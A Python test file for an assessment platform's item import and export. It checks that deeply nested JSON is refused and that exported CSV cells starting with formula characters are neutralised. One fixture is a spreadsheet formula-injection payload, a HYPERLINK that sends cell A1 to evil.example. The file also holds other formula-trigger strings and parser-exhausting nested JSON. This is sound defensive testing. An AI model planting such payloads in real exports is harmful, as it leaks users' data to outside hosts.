"""Crafted item-bank files are refused with a message; nothing is written."""

from __future__ import annotations

import json

import pytest

from skillpath.accounts import testing
from skillpath.assessments.exceptions import ItemImportError
from skillpath.assessments.models import Item
from skillpath.assessments.services import interchange

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("depth", [50_000, 200])
def test_deeply_nested_json_is_refused_with_a_message(depth: int) -> None:
    inner = "[" * depth + "]" * depth
    text = '{"format": "skillpath-items", "version": 1, "items": [' + inner + "]}"
    with pytest.raises(ItemImportError) as refused:
        interchange.items_import(
            author=testing.coordinator(), data=text.encode(), file_format="json"
        )
    assert "nested" in refused.value.message
    assert not Item.objects.exists()


def test_deep_json_in_a_csv_rubric_is_refused_with_its_line() -> None:
    rubric = json.dumps("x")
    for _ in range(200):
        rubric = '{"a": ' + rubric + "}"
    text = "code,competency,kind,stem_en,rubric_json\n" + (
        f'a1,x,performance_task,Do it,"{rubric.replace(chr(34), chr(34) * 2)}"\n'
    )
    with pytest.raises(ItemImportError) as refused:
        interchange.items_import(
            author=testing.coordinator(), data=text.encode(), file_format="csv"
        )
    assert any("Line 2" in p and "nested" in p for p in refused.value.problems)
    assert not Item.objects.exists()


def test_the_csv_export_neutralises_formula_cells_and_reimports_them_unchanged() -> (
    None
):
    import csv
    import io

    from skillpath.assessments.interchange_csv import items_export_csv
    from skillpath.assessments.tests import factories
    from skillpath.credentials.testing import micro_credential

    credential = micro_credential(levels=(2,))
    [competency] = factories.competencies(credential)
    [item] = factories.bank(competency, size=1, status="draft")
    item.stem_en = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    item.stem_fr = "@SUM(1+1)"
    item.content["options"][0]["en"] = "+1 answer"
    item.save()
    text = items_export_csv([item])
    [row] = list(csv.DictReader(io.StringIO(text)))
    for column in ("stem_en", "stem_fr", "options_en"):
        assert not row[column].startswith(("=", "+", "-", "@")), column
    assert row["stem_en"].startswith("'=")
    item.delete()
    coordinator = testing.coordinator(credential.issuing_organisation)
    interchange.items_import(author=coordinator, data=text.encode(), file_format="csv")
    again = Item.objects.get(code=item.code)
    assert again.stem_en == '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert again.stem_fr == "@SUM(1+1)"
    assert again.content["options"][0]["en"] == "+1 answer"
    assert again.thresholds == item.thresholds
